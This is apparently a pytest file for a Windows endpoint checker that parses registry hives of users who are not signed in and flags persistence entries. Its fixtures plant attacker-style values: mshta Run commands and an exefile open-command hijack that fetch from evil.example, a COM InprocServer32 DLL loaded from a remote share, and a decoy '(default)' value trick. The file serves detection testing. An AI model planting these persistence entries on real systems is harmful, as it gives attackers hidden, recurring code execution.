"""A machine of several people: registries of people who are not signed in are looked at, too."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from quetsach.endpoint.checking import Result
from quetsach.endpoint.machine import Registry, User
from quetsach.endpoint.machines.hive import MOST_HELD
from quetsach.endpoint.machines.people import CLASSES, PeoplesRegistry
from quetsach.endpoint.machines.recording import Recording
from quetsach.endpoint.reporting import wording
from tests.endpoint import world
from tests.endpoint.hives import Hive, nested
from tests.endpoint.test_list_places import CURRENT, URL

AN, BINH = "S-1-5-21-1-2-3-1001", "S-1-5-21-1-2-3-1002"
PROFILES = rf"{world.NT}\ProfileList"
HOME = r"C:\Users\binh"
RUN = rf"HKU\{BINH}\Software\{CURRENT}\Run"
CLASS = rf"HKU\{BINH}_Classes\CLSID\{{1}}\InprocServer32"


class Shared(Recording):
    """A running Windows on which `an` is signed in."""

    def __init__(self, told: dict[str, Any]) -> None:
        super().__init__(world.recording(told))
        self._joined = PeoplesRegistry(super().registry, self.files, self.variables)

    @property
    def registry(self) -> Registry:
        return getattr(self, "_joined", None) or super().registry

    def users(self) -> Sequence[User]:
        return self._joined.users

    def unsettled(self) -> Sequence[str]:
        return self._joined.unsettled()


def _text(content: bytes) -> str:
    return content.decode("utf-8", "surrogateescape")


def shared(keys: Mapping[str, Mapping[str, Any]], more: dict[str, str] | None = None) -> Shared:
    """The clean machine, with these keys in the registry of a person who is not signed in."""
    told = world.planted(
        {
            "registry": {
                rf"{PROFILES}\{AN}": {"ProfileImagePath": r"C:\Users\an"},
                rf"{PROFILES}\{BINH}": {"ProfileImagePath": r"%SystemDrive%\Users\binh"},
                rf"{PROFILES}\S-1-5-18": {"ProfileImagePath": r"C:\Windows\System32\config\systemprofile"},
                rf"HKU\{AN}\Software": {"x": "1"},
            },
            "files": {
                rf"{HOME}\NTUSER.DAT": _text(Hive(nested(keys, rf"HKU\{BINH}")).content),
                rf"{HOME}\{CLASSES}": _text(Hive(nested(keys, rf"HKU\{BINH}_Classes")).content),
                **(more or {}),
            },
        }
    )
    return Shared(told)


def listed(done: Result) -> set[str]:
    return {one.indicator for one in done.findings if one.indicator}


def test_who_has_a_profile_is_known_by_it() -> None:
    machine = shared({})
    assert [(one.name, one.root) for one in machine.users()] == [
        ("an", rf"HKU\{AN}"), ("binh", rf"HKU\{BINH}"),
    ]  # fmt: skip
    assert str(world.look(machine).verdict) == "clean"


@pytest.mark.recorded
def test_what_starts_with_somebody_who_is_not_signed_in_is_compared() -> None:
    assert listed(world.look(shared({RUN: {"x": f"mshta {URL}"}}))) == {"evil.example"}
    assert listed(world.look(shared({RUN: {"x": "mshta http://notevil.example/a"}}))) == set()


@pytest.mark.recorded
def test_libraries_of_their_classes_are_seen() -> None:
    done = world.look(shared({CLASS: {"": r"C:\Users\binh\a.dll"}}))
    places = [one.fields["place"] for one in done.observed["autostart"].items]
    assert CLASS in places


@pytest.mark.recorded
@pytest.mark.parametrize("is_first", [True, False], ids=["before", "behind"])
def test_a_value_called_default_hides_no_default_value(is_first: bool) -> None:
    """`reg add KEY /v "(default)"` makes an ordinary value that a registry editor shows like the real one."""
    decoy, real = {"(default)": r"C:\Windows\System32\ole32.dll"}, {"": r"\\evil.example\a\x.dll"}
    values = decoy | real if is_first else real | decoy
    machine = shared({CLASS: values})
    assert dict(machine.registry.values(CLASS)) == values
    assert listed(world.look(machine)) == {"evil.example"}
    command = rf"HKU\{BINH}_Classes\exefile\shell\open\command"
    opened = {"": f'mshta {URL} "%1" %*', "(default)": '"%1" %*'}
    assert listed(world.look(shared({command: opened}))) == {"evil.example"}
    assert listed(world.look(shared({CLASS: decoy, command: {"(default)": f"mshta {URL}"}}))) == set()


@pytest.mark.recorded
def test_names_of_one_byte_a_letter_are_latin_1() -> None:
    """In Windows-1252 five of these bytes are no letter at all: one such name would end the whole key."""
    names = {f"x{chr(one)}": f"{one}.exe" for one in range(0x80, 0x100)}
    assert dict(shared({RUN: names}).registry.values(RUN).items()) == names
    below = {rf"{RUN}\{name}": {"": text} for name, text in names.items() if name < "x\xc0"}
    registry = shared(below).registry
    assert sorted(registry.subkeys(RUN)) == sorted(name for name in names if name < "x\xc0")
    assert registry.values(rf"{RUN}\x{chr(0x81)}") == {"": "129.exe"}


@pytest.mark.recorded
@pytest.mark.parametrize("content", ["", "regf", "x" * 9_000], ids=["empty", "cut off", "no hive"])
def test_a_registry_of_theirs_that_cannot_be_read_is_named_and_nothing_is_clean(content: str) -> None:
    done = world.look(shared({}, {rf"{HOME}\NTUSER.DAT": content}))
    assert str(done.verdict) == "unknown"
    gaps = [gap for name in done.unseen for gap in done.observed[name].gaps]
    assert {gap.detail for gap in gaps} == {rf"{HOME}\NTUSER.DAT"}


@pytest.mark.recorded
def test_one_that_was_not_written_wholly_asks_for_its_person() -> None:
    content = bytearray(Hive({}).content)
    content[4] += 1  # the first sequence number: Windows began to write
    done = world.look(shared({}, {rf"{HOME}\NTUSER.DAT": _text(bytes(content))}))
    assert (str(done.verdict), list(done.unseen)) == ("unknown", ["hives"])
    (gap,) = done.observed["hives"].gaps
    assert (gap.reason, gap.detail) == ("signed_out", rf"{HOME}\NTUSER.DAT")
    assert any("sign in" in step for step in wording.next_steps(done))


def test_of_many_people_few_are_in_memory_and_no_file_stays_open(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def refused(*_given: Any, **_more: Any) -> None:
        raise AssertionError("a hive of a running Windows must not be mapped: its person could not sign in")

    monkeypatch.setattr("mmap.mmap", refused)
    many = {f"S-1-5-21-1-2-3-{number}": f"nguoi{number}" for number in range(2_000, 2_020)}
    profiles = {rf"{PROFILES}\{sid}": {"ProfileImagePath": rf"C:\Users\{name}"} for sid, name in many.items()}
    files = {
        rf"C:\Users\{name}\NTUSER.DAT": _text(
            Hive(
                {"Software": nested({rf"X\{CURRENT}\Run": {"x": f"curl http://{name}.example/"}}, "X")}
            ).content
        )
        for name in many.values()
    }
    machine = Shared(world.planted({"registry": profiles, "files": files}))
    for sid, name in [*many.items(), *many.items()]:
        values = machine.registry.values(rf"HKU\{sid}\Software\{CURRENT}\Run")
        assert values == {"x": f"curl http://{name}.example/"}
        assert machine.registry.subkeys(rf"HKU\{sid}") == ["Software"]
    assert len(machine._joined._kept._opened) <= MOST_HELD < len(many)


def test_a_profile_without_a_registry_is_no_gap() -> None:
    told = world.planted({"registry": {rf"{PROFILES}\{BINH}": {"ProfileImagePath": HOME}}})
    machine = Shared(told)
    assert [one.root for one in machine.users()] == [""]
    assert str(world.look(machine).verdict) == "clean"
